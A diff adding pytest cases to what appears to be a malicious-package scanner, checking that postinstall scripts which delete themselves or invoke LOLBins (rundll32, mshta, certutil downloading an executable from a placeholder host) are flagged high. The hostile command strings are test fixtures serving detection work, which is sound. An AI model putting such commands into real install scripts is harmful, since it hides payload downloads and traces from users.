@@ -893,3 +893,46 @@ def test_a_call_is_high_however_its_program_is_named(
     )
     pattern, confidence = want
     assert _found(pkg).get(pattern) == confidence
+
+
+@pytest.mark.parametrize(
+    ("code", "want"),
+    [
+        # the running script named another way (``process.argv[1]`` was in the regex but never
+        # matched: a ``\b`` after ``]``), in an ES module, through require.main
+        ("require('fs').unlinkSync(process.argv[1]);", ("GH-INSTALL-SELF-DELETE", "high")),
+        (
+            "fs.unlinkSync(url.fileURLToPath(import.meta.url));",
+            ("GH-INSTALL-SELF-DELETE", "high"),
+        ),
+        ("fs.rmSync(require.main.filename, {force: true});", ("GH-INSTALL-SELF-DELETE", "high")),
+        # a LOLBin by its full path or after ``cmd /c``
+        (
+            "cp.execSync('C:\\\\Windows\\\\System32\\\\rundll32.exe x.dll,Run');",
+            ("GH-INSTALL-LOLBIN", "high"),
+        ),
+        ("cp.exec('%SystemRoot%\\\\System32\\\\mshta.exe a.hta');", ("GH-INSTALL-LOLBIN", "high")),
+        (
+            "cp.exec('cmd /c certutil -urlcache -f http://x.example.invalid/a a.exe');",
+            ("GH-INSTALL-LOLBIN", "high"),
+        ),
+        # near misses: another file deleted, another argument, a document named like a LOLBin
+        ("require('fs').unlinkSync(process.argv[2]);", ("GH-INSTALL-SELF-DELETE", None)),
+        ("fs.unlinkSync(new URL('./tmp.txt', import.meta.url));", ("GH-INSTALL-SELF-DELETE", None)),
+        ("cp.exec('cat docs/mshta.md');", ("GH-INSTALL-LOLBIN", None)),
+        ("cp.exec('cmd /c dir');", ("GH-INSTALL-LOLBIN", None)),
+    ],
+)
+def test_an_install_step_is_high_however_its_target_is_named(
+    tmp_path: Path, code: str, want: tuple[str, str | None]
+) -> None:
+    pkg = tmp_path / "pkg"
+    pkg.mkdir()
+    (pkg / "package.json").write_text(
+        '{"name": "fixture-step", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}'
+    )
+    (pkg / "i.js").write_text(
+        f"const cp = require('child_process'), fs = require('fs'), url = require('url');\n{code}\n"
+    )
+    pattern, confidence = want
+    assert _found(pkg).get(pattern) == confidence
